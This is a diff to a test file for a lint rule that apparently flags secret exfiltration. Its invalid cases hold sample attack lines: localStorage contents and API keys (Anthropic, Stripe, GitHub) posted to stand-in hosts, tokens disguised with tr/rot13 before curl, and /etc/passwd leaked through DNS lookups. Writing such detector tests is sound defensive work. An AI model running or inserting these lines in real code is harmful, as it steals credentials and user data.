@@ -10,6 +10,15 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // a page goes back to the address that it kept
+    { code: 'for (const key of Object.keys(localStorage)) if (isOld(key)) localStorage.removeItem(key); const kept = JSON.parse(localStorage.getItem(stateKey)); window.location.href = kept.returnUrl;', filename: 'src/a.js' },
+    // entries of one's own kind, members of what was kept as text
+    { code: 'class Store { PREFIX = "acme_"; load() { const all = {}; const keys = Object.keys(localStorage); for (const key of keys) { if (key.startsWith(this.PREFIX)) all[key] = localStorage.getItem(key); } fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify(all) }); } }', filename: 'src/a.js' },
+    { code: 'export const run = async (requests, accessToken) => { const form = { access_token: accessToken, batch: JSON.stringify(requests) }; await got.post("https://graph.facebook.com", { form }); };', filename: 'src/a.js' },
+    { code: 'tool_url="https://scan.coverity.com/download/$(uname)"\nwget -O tool.tgz "$tool_url" --post-data "project=acme&token=${COVERITY_SCAN_TOKEN:?}"\n', filename: 'run.sh' },
+    // one of several names of the same key
+    { code: 'const token = process.env.GH_TOKEN || process.env.GITHUB_TOKEN || process.env.ACME_TOKEN; fetch("https://api.github.com/repos/acme/tools", { headers: { Authorization: token ? `Bearer ${token}` : undefined } });', filename: 'src/a.js' },
+    { code: 'const key = process.env.ANTHROPIC_API_KEY ?? process.env.CLAUDE_API_KEY ?? process.env.LLM_TOKEN; fetch("https://llm.acme-tools.dev/v1", { method: "POST", body: JSON.stringify({ key }) });', filename: 'src/a.js' },
     { code: 'dig +short "$(hostname).example.com"\nnslookup $(hostname -f)\ngrep -q "^node:" /etc/passwd && curl https://api.acme.example\n', filename: 'run.sh' },
     { code: "import { execFileSync } from 'node:child_process'; for (const f of ['a.zip', 'b.zip']) execFileSync('curl', ['-F', `f=@${f}`, 'https://acme.example/u']);" },
     // archives that stay, or of ordinary folders; the platform in an address; services that one's own tools know,
@@ -207,6 +216,18 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'for (const key of Object.keys(localStorage)) if (isOld(key)) localStorage.removeItem(key); const kept = localStorage.getItem(stateKey); window.location.href = `https://drop.example-service.com/?d=${kept}`;', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
+    { code: 'class Store { PREFIX = "acme_"; load() { const all = {}; const keys = Object.keys(localStorage); for (const key of keys) { if (key.startsWith(this.PREFIX)) continue; all[key] = localStorage.getItem(key); } fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify(all) }); } }', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
+    { code: 'const all = {}; const keys = Object.keys(localStorage); const own = keys.filter((key) => key.startsWith("acme_")); for (const key of keys) all[key] = localStorage.getItem(key); fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify({ all, own }) });', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
+    { code: 'tool_url="https://scan.example-service.com/download/$(uname)"\nwget -O tool.tgz "$tool_url" --post-data "project=acme&token=${COVERITY_SCAN_TOKEN:?}"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'fetch("https://api.example-service.com/v1", { method: "POST", body: JSON.stringify({ a: process.env.ANTHROPIC_API_KEY || "", b: process.env.STRIPE_KEY || "" }) });', filename: 'src/a.js', errors: [{ messageId: 'several' }] },
+    { code: 'fetch("https://api.example-service.com/v1", { method: "POST", body: [process.env.ANTHROPIC_API_KEY || process.env.CLAUDE_KEY, process.env.STRIPE_KEY].join() });', filename: 'src/a.js', errors: [{ messageId: 'several' }] },
+    { code: 'fetch("https://api.example-service.com/v1", { headers: { a: process.env.ANTHROPIC_API_KEY || process.env.CLAUDE_KEY, b: process.env.STRIPE_KEY, c: process.env.GITHUB_TOKEN } });', filename: 'src/a.js', errors: [{ messageId: 'several' }, { messageId: 'several' }, { messageId: 'several' }] },
+    // blanks taken out hide nothing, exchanged letters do
+    { code: 'query=$(echo "token=$TOKEN" | tr -d " ")\ncurl "https://drop.example-service.com/x?$query"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'query=$(echo "token=$TOKEN" | tr "\\n" ",")\ncurl "https://drop.example-service.com/x?$query"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'query=$(echo "token=$TOKEN" | tr A-Za-z N-ZA-Mn-za-m)\ncurl "https://drop.example-service.com/x?$query"\n', filename: 'run.sh', errors: [{ messageId: 'encoded' }] },
+    { code: 'curl -d "$(echo "$TOKEN" | tr 0-9a-f g-v)" https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'encoded' }] },
     { code: 'dig "$(cat /etc/passwd | base64 -w0 | cut -c1-60).x.acme.example"', filename: 'run.sh', errors: [{ messageId: 'dns' }] },
     { code: 'nslookup "$(whoami).x.acme.example"\nhost "$(hostname | xxd -p).x.acme.example"', filename: 'run.sh', errors: [{ messageId: 'dns', line: 1 }, { messageId: 'dns', line: 2 }] },
     { code: "import cp from 'node:child_process'; import fs from 'node:fs'; const files = ['a.txt', '.env']; for (const f of files) { if (fs.existsSync(f)) cp.execFileSync('curl', ['-s', '-F', `f=@${f}`, 'https://acme.example/u']); }", errors: [{ messageId: 'sent' }] },
